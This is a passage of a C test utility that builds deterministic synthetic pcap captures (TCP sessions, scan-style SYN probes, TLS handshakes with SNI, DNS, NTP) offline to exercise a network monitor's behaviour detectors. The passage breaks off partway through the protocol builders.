/* tests/tools/fwgen.c: synthetic, deterministic captures for finwatch.
 *
 * Writes classic pcap files (Ethernet link type, microsecond timestamps) holding
 * protocol-correct traffic for each behaviour detector and for the demo: TCP
 * sessions with real handshakes and checksums, TLS ClientHello with SNI, DNS,
 * NTP, SNMP, FIX 4.2, SSH, SMB2, DCE/RPC, RDP, HTTP, rsync, Telnet, FTP, DNSCrypt.
 * Nothing touches the network. A fixed seed gives byte-identical output.
 *
 * How it works: every builder appends finished frames (with their timestamp) to
 * an in-memory store; activities run on their own clock (g->now), so several
 * activities may overlap in time. At the end the store is sorted by timestamp and
 * written out. Bulk transfers (backup, exfil) keep only the first 64 bytes of
 * each frame (caplen 64, wire length 1514) so that gigabytes fit in megabytes:
 * the sensor counts wire length.
 *
 * To add a scenario: write a static void scn_<name>(struct gen_ctx *g) from the
 * activity helpers (gen_tcp_*, gen_dns_*, act_*), add it to gen_scenarios[] and
 * describe its expected detections in tests/tools/fwgen.md.
 *
 * Usage: fwgen SCENARIO OUT.pcap [--seed N] [--scale F] | fwgen list
 */
#include <errno.h>
#include <inttypes.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define GEN_BASE_US     (1793610000ull * 1000000ull)   /* 2026-11-02 09:00:00 UTC */
#define GEN_SEC         1000000ull
#define GEN_MIN         (60ull * GEN_SEC)
#define GEN_HOUR        (60ull * GEN_MIN)
#define GEN_DAY         (24ull * GEN_HOUR)
#define GEN_MTU         1500
#define GEN_MSS         1460
#define GEN_ETH_MIN     60          /* frames shorter than this carry padding */
#define GEN_SNAP_BULK   64          /* caplen of bulk-transfer frames */
#define GEN_L4_MAX      65535
#define GEN_PAYLOAD_MAX 8192        /* largest application message we build */

#define IP4(a, b, c, d) ((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 | (d))
#define GEN_N(a)        (sizeof(a) / sizeof((a)[0]))

enum {
    GEN_PROTO_ICMP = 1,
    GEN_PROTO_TCP = 6,
    GEN_PROTO_UDP = 17,
};

enum {
    TH_FIN = 0x01,
    TH_SYN = 0x02,
    TH_RST = 0x04,
    TH_PSH = 0x08,
    TH_ACK = 0x10,
};

/* ---------------------------------------------------------------------------
 * Generator state, random numbers, byte builder
 * ------------------------------------------------------------------------- */

struct gen_rec {
    uint64_t ts;            /* µs since epoch */
    uint64_t seq;           /* insertion order: keeps the sort stable */
    size_t off;             /* first captured byte in the data arena */
    uint32_t caplen;
    uint32_t wirelen;
};

struct gen_ctx {
    uint64_t now;           /* timestamp of the next frame, µs */
    uint64_t rng;           /* splitmix64 state */
    double scale;           /* multiplies counts, volumes and durations */
    uint32_t snap;          /* 0 = whole frames; else caplen cap (bulk phases) */
    uint16_t ip_id;
    uint16_t next_port;     /* ephemeral ports advance like a real stack's */
    bool failed;            /* sticky: an allocation failed */
    struct gen_rec *recs;
    size_t nrec, caprec;
    uint8_t *data;          /* captured bytes of every frame, back to back */
    size_t dlen, dcap;
    uint64_t wire_bytes;
    uint8_t l4[GEN_L4_MAX]; /* scratch: the L4 segment being built */
};

static uint64_t gen_rand(struct gen_ctx *g)
{
    uint64_t z = (g->rng += 0x9e3779b97f4a7c15ull);

    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

/* Uniform in [lo, hi] (inclusive); hi >= lo. */
static uint64_t gen_range(struct gen_ctx *g, uint64_t lo, uint64_t hi)
{
    return lo + gen_rand(g) % (hi - lo + 1);
}

/* True with probability pct/100. */
static bool gen_chance(struct gen_ctx *g, unsigned pct)
{
    return gen_rand(g) % 100 < pct;
}

/* n scaled by --scale, at least 1. */
static uint64_t gen_scaled(const struct gen_ctx *g, uint64_t n)
{
    double v = (double)n * g->scale + 0.5;

    return v < 1.0 ? 1 : (uint64_t)v;
}

static void gen_tick(struct gen_ctx *g, uint64_t us)
{
    g->now += us;
}

/* Fixed-capacity byte builder for application messages; overflow is sticky and
 * truncates instead of writing past the end. */
struct gen_buf {
    uint8_t *b;
    size_t len;
    size_t cap;
    bool overflow;
};

static void gen_buf_init(struct gen_buf *b, uint8_t *mem, size_t cap)
{
    b->b = mem;
    b->len = 0;
    b->cap = cap;
    b->overflow = false;
}

static void gen_put(struct gen_buf *b, const void *p, size_t n)
{
    if (b->overflow || b->cap - b->len < n) {
        b->overflow = true;
        return;
    }
    memcpy(b->b + b->len, p, n);
    b->len += n;
}

static void gen_u8(struct gen_buf *b, uint8_t v)
{
    gen_put(b, &v, 1);
}

static void gen_u16(struct gen_buf *b, uint16_t v)
{
    uint8_t x[2] = {(uint8_t)(v >> 8), (uint8_t)v};

    gen_put(b, x, 2);
}

static void gen_u16le(struct gen_buf *b, uint16_t v)
{
    uint8_t x[2] = {(uint8_t)v, (uint8_t)(v >> 8)};

    gen_put(b, x, 2);
}

static void gen_u32(struct gen_buf *b, uint32_t v)
{
    gen_u16(b, (uint16_t)(v >> 16));
    gen_u16(b, (uint16_t)v);
}

static void gen_u32le(struct gen_buf *b, uint32_t v)
{
    gen_u16le(b, (uint16_t)v);
    gen_u16le(b, (uint16_t)(v >> 16));
}

static void gen_str(struct gen_buf *b, const char *s)
{
    gen_put(b, s, strlen(s));
}

static void gen_zero(struct gen_buf *b, size_t n)
{
    while (n-- > 0)
        gen_u8(b, 0);
}

static void gen_rnd(struct gen_ctx *g, struct gen_buf *b, size_t n)
{
    while (n-- > 0)
        gen_u8(b, (uint8_t)gen_rand(g));
}

/* Length fields written before their content is known: reserve, then patch. */
static size_t gen_mark(struct gen_buf *b, size_t width)
{
    size_t at = b->len;

    gen_zero(b, width);
    return at;
}

/* Patch a big-endian field of 1..3 bytes at 'at' with the bytes written after it. */
static void gen_patch_len(struct gen_buf *b, size_t at, size_t width)
{
    size_t v = b->len - at - width;
    size_t i;

    if (b->overflow)
        return;
    for (i = 0; i < width; i++)
        b->b[at + i] = (uint8_t)(v >> (8 * (width - 1 - i)));
}

static void gen_patch_u16le(struct gen_buf *b, size_t at, uint16_t v)
{
    if (b->overflow)
        return;
    b->b[at] = (uint8_t)v;
    b->b[at + 1] = (uint8_t)(v >> 8);
}

/* ---------------------------------------------------------------------------
 * Frame store and pcap writer
 * ------------------------------------------------------------------------- */

static bool gen_grow(void **p, size_t *cap, size_t need, size_t elem)
{
    size_t ncap = *cap ? *cap : 1024;
    void *np;

    while (ncap < need)
        ncap *= 2;
    if (ncap == *cap)
        return true;
    np = realloc(*p, ncap * elem);
    if (np == NULL)
        return false;
    *p = np;
    *cap = ncap;
    return true;
}

/* Record one frame at g->now. Only min(len, snap) bytes are kept; wire length is
 * len. Borrows frame. */
static void gen_store(struct gen_ctx *g, const uint8_t *frame, size_t len)
{
    size_t cap = (g->snap && len > g->snap) ? g->snap : len;
    struct gen_rec *r;

    if (g->failed)
        return;
    if (!gen_grow((void **)&g->recs, &g->caprec, g->nrec + 1, sizeof(*g->recs)) ||
        !gen_grow((void **)&g->data, &g->dcap, g->dlen + cap, 1)) {
        g->failed = true;
        return;
    }
    r = &g->recs[g->nrec];
    r->ts = g->now;
    r->seq = g->nrec++;
    r->off = g->dlen;
    r->caplen = (uint32_t)cap;
    r->wirelen = (uint32_t)len;
    memcpy(g->data + g->dlen, frame, cap);
    g->dlen += cap;
    g->wire_bytes += len;
}

static int gen_rec_cmp(const void *a, const void *b)
{
    const struct gen_rec *x = a, *y = b;

    if (x->ts != y->ts)
        return x->ts < y->ts ? -1 : 1;
    return x->seq < y->seq ? -1 : (x->seq > y->seq);
}

static void gen_le32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)v;
    p[1] = (uint8_t)(v >> 8);
    p[2] = (uint8_t)(v >> 16);
    p[3] = (uint8_t)(v >> 24);
}

/* Classic pcap, little-endian, µs resolution, snaplen 65535, LINKTYPE_ETHERNET. */
static int gen_pcap_header(FILE *f)
{
    uint8_t h[24] = {0};

    gen_le32(h, 0xa1b2c3d4);
    h[4] = 2;               /* version 2.4 */
    h[6] = 4;
    gen_le32(h + 16, 65535);
    gen_le32(h + 20, 1);
    return fwrite(h, sizeof(h), 1, f) == 1 ? 0 : -1;
}

static int gen_pcap_record(FILE *f, const struct gen_rec *r, const uint8_t *data)
{
    uint8_t h[16];

    gen_le32(h, (uint32_t)(r->ts / GEN_SEC));
    gen_le32(h + 4, (uint32_t)(r->ts % GEN_SEC));
    gen_le32(h + 8, r->caplen);
    gen_le32(h + 12, r->wirelen);
    if (fwrite(h, sizeof(h), 1, f) != 1)
        return -1;
    return fwrite(data + r->off, 1, r->caplen, f) == r->caplen ? 0 : -1;
}

/* Sort the store by time and write it to path. 0 or -1 (message printed). */
static int gen_write(struct gen_ctx *g, const char *path)
{
    FILE *f;
    size_t i;
    int rc;

    qsort(g->recs, g->nrec, sizeof(*g->recs), gen_rec_cmp);
    f = fopen(path, "wb");
    if (f == NULL) {
        fprintf(stderr, "fwgen: %s: %s\n", path, strerror(errno));
        return -1;
    }
    rc = gen_pcap_header(f);
    for (i = 0; rc == 0 && i < g->nrec; i++)
        rc = gen_pcap_record(f, &g->recs[i], g->data);
    if (fclose(f) != 0)
        rc = -1;
    if (rc != 0)
        fprintf(stderr, "fwgen: %s: write failed\n", path);
    return rc;
}

/* ---------------------------------------------------------------------------
 * Ethernet, IPv4, TCP, UDP (RFC 791, 793, 768) with correct checksums
 * ------------------------------------------------------------------------- */

struct gen_ep {
    uint32_t ip;            /* host order */
    uint16_t port;
};

static bool gen_is_internal(uint32_t ip)
{
    return (ip >> 24) == 10 || (ip >> 8) == (IP4(172, 16, 0, 0) >> 8) ||
           (ip >> 16) == (IP4(192, 168, 0, 0) >> 16);
}

/* Locally administered MAC derived from the address; external hosts sit behind
 * the border router, so they all share its MAC as on a real SPAN port. */
static void gen_mac(uint8_t mac[6], uint32_t ip)
{
    uint32_t v = gen_is_internal(ip) ? ip : IP4(10, 0, 0, 1);

    mac[0] = 0x02;
    mac[1] = 0x00;
    mac[2] = (uint8_t)(v >> 24);
    mac[3] = (uint8_t)(v >> 16);
    mac[4] = (uint8_t)(v >> 8);
    mac[5] = (uint8_t)v;
}

static uint32_t gen_sum(uint32_t acc, const uint8_t *p, size_t n)
{
    size_t i;

    for (i = 0; i + 1 < n; i += 2)
        acc += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1)
        acc += (uint32_t)p[n - 1] << 8;
    return acc;
}

static uint16_t gen_fold(uint32_t acc)
{
    while (acc >> 16)
        acc = (acc & 0xffff) + (acc >> 16);
    return (uint16_t)~acc;
}

/* TCP/UDP checksum over the pseudo-header and the whole segment. */
static uint16_t gen_l4_csum(uint32_t src, uint32_t dst, uint8_t proto, const uint8_t *l4,
                            size_t len)
{
    uint32_t acc = (src >> 16) + (src & 0xffff) + (dst >> 16) + (dst & 0xffff);

    acc += proto + (uint32_t)len;
    return gen_fold(gen_sum(acc, l4, len));
}

static uint8_t gen_ttl(uint32_t ip)
{
    return gen_is_internal(ip) ? 64 : 51;   /* external: some hops away */
}

/* One Ethernet frame holding one IPv4 packet (or fragment) of dlen data bytes.
 * frag is the flags+offset field. */
static void gen_frame(struct gen_ctx *g, uint32_t src, uint32_t dst, uint8_t proto,
                      uint16_t id, uint16_t frag, const uint8_t *data, size_t dlen)
{
    uint8_t mem[14 + GEN_MTU];
    struct gen_buf b;
    uint8_t mac[6];
    size_t ip_at;

    gen_buf_init(&b, mem, sizeof(mem));
    gen_mac(mac, dst);
    gen_put(&b, mac, 6);
    gen_mac(mac, src);
    gen_put(&b, mac, 6);
    gen_u16(&b, 0x0800);
    ip_at = b.len;
    gen_u8(&b, 0x45);
    gen_u8(&b, 0);
    gen_u16(&b, (uint16_t)(20 + dlen));
    gen_u16(&b, id);
    gen_u16(&b, frag);
    gen_u8(&b, gen_ttl(src));
    gen_u8(&b, proto);
    gen_u16(&b, 0);
    gen_u32(&b, src);
    gen_u32(&b, dst);
    gen_put(&b, data, dlen);
    if (b.overflow)
        return;
    {
        uint16_t c = gen_fold(gen_sum(0, mem + ip_at, 20));
        mem[ip_at + 10] = (uint8_t)(c >> 8);
        mem[ip_at + 11] = (uint8_t)c;
    }
    while (b.len < GEN_ETH_MIN)
        gen_u8(&b, 0);      /* Ethernet padding, beyond the IP total length */
    gen_store(g, mem, b.len);
}

/* Send an L4 segment from src to dst, fragmenting above the MTU (8-byte units).
 * TCP sets DF, as stacks with path-MTU discovery do. */
static void gen_ip_send(struct gen_ctx *g, uint32_t src, uint32_t dst, uint8_t proto,
                        const uint8_t *l4, size_t len)
{
    uint16_t id = g->ip_id++;
    const size_t chunk = GEN_MTU - 20;
    size_t off = 0;

    if (len <= chunk) {
        gen_frame(g, src, dst, proto, id, proto == GEN_PROTO_TCP ? 0x4000 : 0, l4, len);
        return;
    }
    while (off < len) {
        size_t n = len - off > chunk ? chunk : len - off;
        uint16_t more = off + n < len ? 0x2000 : 0;

        gen_frame(g, src, dst, proto, id, (uint16_t)(more | (off / 8)), l4 + off, n);
        off += n;
    }
}

/* One TCP segment. opts adds MSS, SACK-permitted and window scale (SYN, SYN-ACK).
 * payload NULL with plen > 0 sends pseudo-random bytes (encrypted bulk data). */
struct gen_seg {
    uint32_t seq;
    uint32_t ack;
    uint8_t flags;
    bool opts;
};

static void gen_tcp_seg(struct gen_ctx *g, const struct gen_ep *s, const struct gen_ep *d,
                        const struct gen_seg *sg, const uint8_t *payload, size_t plen)
{
    static const uint8_t syn_opts[12] = {2, 4, 0x05, 0xb4, 1, 1, 4, 2, 1, 3, 3, 7};
    struct gen_buf b;
    size_t hl = sg->opts ? 32 : 20;
    uint16_t c;

    gen_buf_init(&b, g->l4, sizeof(g->l4));
    gen_u16(&b, s->port);
    gen_u16(&b, d->port);
    gen_u32(&b, sg->seq);
    gen_u32(&b, (sg->flags & TH_ACK) ? sg->ack : 0);
    gen_u8(&b, (uint8_t)(hl / 4) << 4);
    gen_u8(&b, sg->flags);
    gen_u16(&b, (sg->flags & TH_RST) ? 0 : 64240);
    gen_u32(&b, 0);         /* checksum, urgent pointer */
    if (sg->opts)
        gen_put(&b, syn_opts, sizeof(syn_opts));
    if (payload != NULL)
        gen_put(&b, payload, plen);
    else
        gen_rnd(g, &b, plen);
    if (b.overflow)
        return;
    c = gen_l4_csum(s->ip, d->ip, GEN_PROTO_TCP, g->l4, b.len);
    g->l4[16] = (uint8_t)(c >> 8);
    g->l4[17] = (uint8_t)c;
    gen_ip_send(g, s->ip, d->ip, GEN_PROTO_TCP, g->l4, b.len);
}

static void gen_udp(struct gen_ctx *g, const struct gen_ep *s, const struct gen_ep *d,
                    const uint8_t *payload, size_t plen)
{
    struct gen_buf b;
    uint16_t c;

    gen_buf_init(&b, g->l4, sizeof(g->l4));
    gen_u16(&b, s->port);
    gen_u16(&b, d->port);
    gen_u16(&b, (uint16_t)(8 + plen));
    gen_u16(&b, 0);
    gen_put(&b, payload, plen);
    if (b.overflow)
        return;
    c = gen_l4_csum(s->ip, d->ip, GEN_PROTO_UDP, g->l4, b.len);
    if (c == 0)
        c = 0xffff;         /* 0 means "no checksum" in UDP */
    g->l4[6] = (uint8_t)(c >> 8);
    g->l4[7] = (uint8_t)c;
    gen_ip_send(g, s->ip, d->ip, GEN_PROTO_UDP, g->l4, b.len);
}

/* ICMP destination unreachable (RFC 792: type 3, code 3 = port unreachable)
 * from the probed host d back to s, quoting the IP header and the first 8
 * bytes of the UDP datagram of ulen bytes that s sent, as stacks do. */
static void gen_icmp_port_unreach(struct gen_ctx *g, const struct gen_ep *s,
                                  const struct gen_ep *d, size_t ulen)
{
    struct gen_buf b;
    size_t ip_at;
    uint16_t c;

    gen_buf_init(&b, g->l4, sizeof(g->l4));
    gen_u8(&b, 3);
    gen_u8(&b, 3);
    gen_u16(&b, 0);         /* checksum */
    gen_u32(&b, 0);         /* unused */
    ip_at = b.len;
    gen_u8(&b, 0x45);
    gen_u8(&b, 0);
    gen_u16(&b, (uint16_t)(20 + ulen));
    gen_u16(&b, (uint16_t)gen_rand(g));
    gen_u16(&b, 0);
    gen_u8(&b, (uint8_t)(gen_ttl(s->ip) - 1));
    gen_u8(&b, GEN_PROTO_UDP);
    gen_u16(&b, 0);
    gen_u32(&b, s->ip);
    gen_u32(&b, d->ip);
    gen_u16(&b, s->port);
    gen_u16(&b, d->port);
    gen_u16(&b, (uint16_t)ulen);
    gen_u16(&b, (uint16_t)gen_rand(g));
    if (b.overflow)
        return;
    c = gen_fold(gen_sum(0, g->l4 + ip_at, 20));
    g->l4[ip_at + 10] = (uint8_t)(c >> 8);
    g->l4[ip_at + 11] = (uint8_t)c;
    c = gen_fold(gen_sum(0, g->l4, b.len));
    g->l4[2] = (uint8_t)(c >> 8);
    g->l4[3] = (uint8_t)c;
    gen_ip_send(g, d->ip, s->ip, GEN_PROTO_ICMP, g->l4, b.len);
}

/* Next client port in the Linux ephemeral range 32768..60999. Ports advance by a
 * small random step so that sessions of one capture rarely share a 5-tuple. */
static uint16_t gen_eport(struct gen_ctx *g)
{
    uint16_t p;

    if (g->next_port < 32768 || g->next_port > 60999)
        g->next_port = (uint16_t)gen_range(g, 32768, 60999);
    p = g->next_port;
    g->next_port = (uint16_t)(g->next_port + gen_range(g, 1, 7));
    return p;
}

/* ---------------------------------------------------------------------------
 * TCP session helper: handshake, data with ACKs, bulk, FIN or RST close
 * ------------------------------------------------------------------------- */

enum gen_dir {
    GEN_C2S = 0,
    GEN_S2C,
};

struct gen_tcp {
    struct gen_ep c, s;     /* client (initiator) and server */
    uint32_t cseq, sseq;    /* next sequence number each side sends */
    uint64_t rtt;           /* round trip time, µs */
};

static void gen_tcp_init(struct gen_ctx *g, struct gen_tcp *t, uint32_t cip, uint32_t sip,
                         uint16_t sport, uint64_t rtt)
{
    t->c.ip = cip;
    t->c.port = gen_eport(g);
    t->s.ip = sip;
    t->s.port = sport;
    t->cseq = (uint32_t)gen_rand(g);
    t->sseq = (uint32_t)gen_rand(g);
    t->rtt = rtt ? rtt : 1;
}

/* One packet in direction dir; advances that side's sequence number. */
static void gen_tcp_pkt(struct gen_ctx *g, struct gen_tcp *t, enum gen_dir dir, uint8_t flags,
                        const uint8_t *p, size_t n)
{
    bool c2s = dir == GEN_C2S;
    uint32_t *seq = c2s ? &t->cseq : &t->sseq;
    struct gen_seg sg = {*seq, c2s ? t->sseq : t->cseq, flags, (flags & TH_SYN) != 0};

    gen_tcp_seg(g, c2s ? &t->c : &t->s, c2s ? &t->s : &t->c, &sg, p, n);
    *seq += (uint32_t)n + ((flags & (TH_SYN | TH_FIN)) ? 1 : 0);
}

static void gen_tcp_open(struct gen_ctx *g, struct gen_tcp *t)
{
    gen_tcp_pkt(g, t, GEN_C2S, TH_SYN, NULL, 0);
    gen_tick(g, t->rtt / 2);
    gen_tcp_pkt(g, t, GEN_S2C, TH_SYN | TH_ACK, NULL, 0);
    gen_tick(g, t->rtt / 2);
    gen_tcp_pkt(g, t, GEN_C2S, TH_ACK, NULL, 0);
    gen_tick(g, 200);
}

/* Send a message in MSS-sized segments (PSH on the last); the peer ACKs it half
 * an RTT later. Borrows p. */
static void gen_tcp_send(struct gen_ctx *g, struct gen_tcp *t, enum gen_dir dir,
                         const uint8_t *p, size_t n)
{
    enum gen_dir peer = dir == GEN_C2S ? GEN_S2C : GEN_C2S;
    size_t off = 0;

    while (off < n) {
        size_t k = n - off > GEN_MSS ? GEN_MSS : n - off;

        gen_tcp_pkt(g, t, dir, (uint8_t)(TH_ACK | (off + k == n ? TH_PSH : 0)),
                    p ? p + off : NULL, k);
        gen_tick(g, 15);
        off += k;
    }
    gen_tick(g, t->rtt / 2);
    gen_tcp_pkt(g, t, peer, TH_ACK, NULL, 0);
    gen_tick(g, 100);
}

/* Bulk transfer of 'bytes' pseudo-random bytes at 'rate' bytes/s, captured with
 * caplen 64; the receiver ACKs every 8 segments. */
static void gen_tcp_bulk(struct gen_ctx *g, struct gen_tcp *t, enum gen_dir dir,
                         uint64_t bytes, uint64_t rate)
{
    enum gen_dir peer = dir == GEN_C2S ? GEN_S2C : GEN_C2S;
    uint64_t per_seg = GEN_MSS * GEN_SEC / (rate ? rate : 1);
    uint32_t saved = g->snap;
    unsigned nseg = 0;

    g->snap = GEN_SNAP_BULK;
    while (bytes > 0) {
        size_t k = bytes > GEN_MSS ? GEN_MSS : (size_t)bytes;

        gen_tcp_pkt(g, t, dir, TH_ACK, NULL, k);
        bytes -= k;
        gen_tick(g, per_seg ? per_seg : 1);
        if (++nseg % 8 == 0 || bytes == 0)
            gen_tcp_pkt(g, t, peer, TH_ACK, NULL, 0);
    }
    g->snap = saved;
    gen_tick(g, t->rtt);
}

/* Orderly close started by dir: FIN, FIN+ACK, ACK. */
static void gen_tcp_close(struct gen_ctx *g, struct gen_tcp *t, enum gen_dir dir)
{
    enum gen_dir peer = dir == GEN_C2S ? GEN_S2C : GEN_C2S;

    gen_tcp_pkt(g, t, dir, TH_FIN | TH_ACK, NULL, 0);
    gen_tick(g, t->rtt / 2);
    gen_tcp_pkt(g, t, peer, TH_FIN | TH_ACK, NULL, 0);
    gen_tick(g, t->rtt / 2);
    gen_tcp_pkt(g, t, dir, TH_ACK, NULL, 0);
    gen_tick(g, 100);
}

/* A probe: SYN, then the target's answer. answer: 0 silent, 1 RST (closed port),
 * 2 SYN-ACK (open port; the prober resets as a SYN scanner does). */
static void gen_tcp_probe(struct gen_ctx *g, struct gen_tcp *t, int answer)
{
    gen_tcp_pkt(g, t, GEN_C2S, TH_SYN, NULL, 0);
    if (answer == 0)
        return;
    gen_tick(g, t->rtt / 2);
    if (answer == 1) {
        gen_tcp_pkt(g, t, GEN_S2C, TH_RST | TH_ACK, NULL, 0);
        return;
    }
    gen_tcp_pkt(g, t, GEN_S2C, TH_SYN | TH_ACK, NULL, 0);
    gen_tick(g, t->rtt / 2);
    gen_tcp_pkt(g, t, GEN_C2S, TH_RST, NULL, 0);
}

/* ---------------------------------------------------------------------------
 * TLS 1.3 (RFC 8446): ClientHello with SNI, ServerHello, encrypted records
 * ------------------------------------------------------------------------- */

static void tls_ext_sni(struct gen_buf *b, const char *sni)
{
    size_t n = strlen(sni);

    gen_u16(b, 0x0000);
    gen_u16(b, (uint16_t)(n + 5));
    gen_u16(b, (uint16_t)(n + 3));
    gen_u8(b, 0);           /* host_name */
    gen_u16(b, (uint16_t)n);
    gen_put(b, sni, n);
}

/* The extensions a current browser sends besides SNI. */
static void tls_ext_common(struct gen_ctx *g, struct gen_buf *b)
{
    static const uint8_t fixed[] = {
        0x00, 0x0b, 0x00, 0x02, 0x01, 0x00,                     /* ec_point_formats */
        0x00, 0x0a, 0x00, 0x08, 0x00, 0x06, 0x00, 0x1d, 0x00, 0x17, 0x00, 0x18,
        0x00, 0x23, 0x00, 0x00,                                 /* session_ticket */
        0x00, 0x10, 0x00, 0x0e, 0x00, 0x0c, 0x02, 'h', '2',     /* ALPN h2, http/1.1 */
        0x08, 'h', 't', 't', 'p', '/', '1', '.', '1',
        0x00, 0x0d, 0x00, 0x12, 0x00, 0x10, 0x04, 0x03, 0x08, 0x04, 0x04, 0x01,
        0x05, 0x03, 0x08, 0x05, 0x05, 0x01, 0x08, 0x06, 0x06, 0x01,
        0x00, 0x2b, 0x00, 0x05, 0x04, 0x03, 0x04, 0x03, 0x03,   /* versions 1.3, 1.2 */
        0x00, 0x2d, 0x00, 0x02, 0x01, 0x01,                     /* psk_dhe_ke */
        0x00, 0x33, 0x00, 0x26, 0x00, 0x24, 0x00, 0x1d, 0x00, 0x20,  /* x25519 share */
    };

    gen_put(b, fixed, sizeof(fixed));
    gen_rnd(g, b, 32);
}

static void tls_client_hello(struct gen_ctx *g, struct gen_buf *b, const char *sni)
{
    static const uint16_t suites[] = {0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c,
                                      0xc030, 0xcca9, 0xcca8, 0xc013, 0xc014, 0x009c,
                                      0x009d, 0x002f, 0x0035};
    size_t rec, hs, ext;
    size_t i;

    gen_u8(b, 0x16);
    gen_u16(b, 0x0301);
    rec = gen_mark(b, 2);
    gen_u8(b, 0x01);        /* client_hello */
    hs = gen_mark(b, 3);
    gen_u16(b, 0x0303);
    gen_rnd(g, b, 32);      /* random */
    gen_u8(b, 32);
    gen_rnd(g, b, 32);      /* legacy session id */
    gen_u16(b, (uint16_t)(2 * GEN_N(suites)));
    for (i = 0; i < GEN_N(suites); i++)
        gen_u16(b, suites[i]);
    gen_u8(b, 1);
    gen_u8(b, 0);           /* null compression */
    ext = gen_mark(b, 2);
    tls_ext_sni(b, sni);
    tls_ext_common(g, b);
    gen_patch_len(b, ext, 2);
    gen_patch_len(b, hs, 3);
    gen_patch_len(b, rec, 2);
}

/* An encrypted TLS 1.3 record (application_data) of n bytes of ciphertext. */
static void tls_app_record(struct gen_ctx *g, struct gen_buf *b, size_t n)
{
    gen_u8(b, 0x17);
    gen_u16(b, 0x0303);
    gen_u16(b, (uint16_t)n);
    gen_rnd(g, b, n);
}

/* ServerHello, ChangeCipherSpec, then the encrypted rest of the server flight
 * (EncryptedExtensions, Certificate, CertificateVerify, Finished). */
static void tls_server_flight(struct gen_ctx *g, struct gen_buf *b, size_t cert_bytes)
{
    static const uint8_t ext[] = {0x00, 0x2b, 0x00, 0x02, 0x03, 0x04,
                                  0x00, 0x33, 0x00, 0x24, 0x00, 0x1d, 0x00, 0x20};
    static const uint8_t ccs[] = {0x14, 0x03, 0x03, 0x00, 0x01, 0x01};
    size_t rec, hs, e;

    gen_u8(b, 0x16);
    gen_u16(b, 0x0303);
    rec = gen_mark(b, 2);
    gen_u8(b, 0x02);        /* server_hello */
    hs = gen_mark(b, 3);
    gen_u16(b, 0x0303);
    gen_rnd(g, b, 32);
    gen_u8(b, 32);
    gen_rnd(g, b, 32);
    gen_u16(b, 0x1301);     /* TLS_AES_128_GCM_SHA256 */
    gen_u8(b, 0);
    e = gen_mark(b, 2);
    gen_put(b, ext, sizeof(ext));
    gen_rnd(g, b, 32);
    gen_patch_len(b, e, 2);
    gen_patch_len(b, hs, 3);
    gen_patch_len(b, rec, 2);
    gen_put(b, ccs, sizeof(ccs));
    tls_app_record(g, b, cert_bytes);
}

/* Client's ChangeCipherSpec + Finished. */
static void tls_client_finished(struct gen_ctx *g, struct gen_buf *b)
{
    static const uint8_t ccs[] = {0x14, 0x03, 0x03, 0x00, 0x01, 0x01};

    gen_put(b, ccs, sizeof(ccs));
    tls_app_record(g, b, 53);
}

/* ---------------------------------------------------------------------------
 * DNS (RFC 1035): queries and answers, names compressed to the question
 * ------------------------------------------------------------------------- */

enum {
    DNS_A = 1,
    DNS_TXT = 16,
    DNS_AAAA = 28,
    DNS_OPT = 41,
    DNS_ANY = 255,
};

static void dns_name(struct gen_buf *b, const char *name)
{
    const char *p = name;

    while (*p != '\0') {
        const char *dot = strchr(p, '.');
        size_t n = dot ? (size_t)(dot - p) : strlen(p);

        gen_u8(b, (uint8_t)(n > 63 ? 63 : n));
        gen_put(b, p, n > 63 ? 63 : n);
        p += n + (dot ? 1 : 0);
    }
    gen_u8(b, 0);
}

/* Header and one question. flags: 0x0100 query (RD), 0x8180 response (QR RD RA). */
static void dns_begin(struct gen_buf *b, uint16_t id, uint16_t flags, uint16_t ancount,
                      const char *qname, uint16_t qtype)
{
    gen_u16(b, id);
    gen_u16(b, flags);
    gen_u16(b, 1);
    gen_u16(b, ancount);
    gen_u16(b, 0);
    gen_u16(b, 0);
    dns_name(b, qname);
    gen_u16(b, qtype);
    gen_u16(b, 1);          /* IN */
}

/* An answer for the question name (pointer to offset 12). */
static void dns_rr(struct gen_buf *b, uint16_t type, uint32_t ttl, const void *rdata,
                   size_t rdlen)
{
    gen_u16(b, 0xc00c);
    gen_u16(b, type);
    gen_u16(b, 1);
    gen_u32(b, ttl);
    gen_u16(b, (uint16_t)rdlen);
    gen_put(b, rdata, rdlen);
}

/* TXT rdata: one character-string per 255 bytes of text. */
static void dns_txt_rr(struct gen_buf *b, uint32_t ttl, const char *text)
{
    uint8_t rd[600];
    struct gen_buf r;
    size_t n = strlen(text), off = 0;

    gen_buf_init(&r, rd, sizeof(rd));
    while (off < n) {
        size_t k = n - off > 255 ? 255 : n - off;

        gen_u8(&r, (uint8_t)k);
        gen_put(&r, text + off, k);
        off += k;
    }
    dns_rr(b, DNS_TXT, ttl, rd, r.len);
}

/* ---------------------------------------------------------------------------
 * NTP (RFC 5905), SNMPv2c (RFC 3416, BER), FIX 4.2, SSH (RFC 4253)
 * ------------------------------------------------------------------------- */

static void ntp_ts(struct gen_buf *b, uint64_t us)
{
    gen_u32(b, (uint32_t)(us / GEN_SEC + 2208988800ull));      /* 1900 epoch */
    gen_u32(b, (uint32_t)(((us % GEN_SEC) << 32) / GEN_SEC));
}

/* mode 3 client (server == false) or mode 4 server reply to a request sent at t0. */
static void ntp_msg(struct gen_buf *b, bool server, uint64_t t0, uint64_t now)
{
    gen_u8(b, server ? 0x24 : 0x23);    /* LI 0, VN 4, mode */
    gen_u8(b, server ? 2 : 0);          /* stratum */
    gen_u8(b, 6);                       /* poll 2^6 = 64 s */
    gen_u8(b, 0xe9);                    /* precision 2^-23 */
    gen_u32(b, server ? 0x00000150 : 0);
    gen_u32(b, server ? 0x00000420 : 0);
    gen_u32(b, server ? IP4(10, 10, 0, 1) : 0);     /* reference id: upstream */
    if (server) {
        ntp_ts(b, now - 17 * GEN_SEC);  /* reference */
        ntp_ts(b, t0);                  /* origin */
        ntp_ts(b, now - 40);            /* receive */
        ntp_ts(b, now);                 /* transmit */
    } else {
        gen_zero(b, 24);
        ntp_ts(b, now);
    }
}

/* BER TLV whose length (< 128) is patched when closed. */
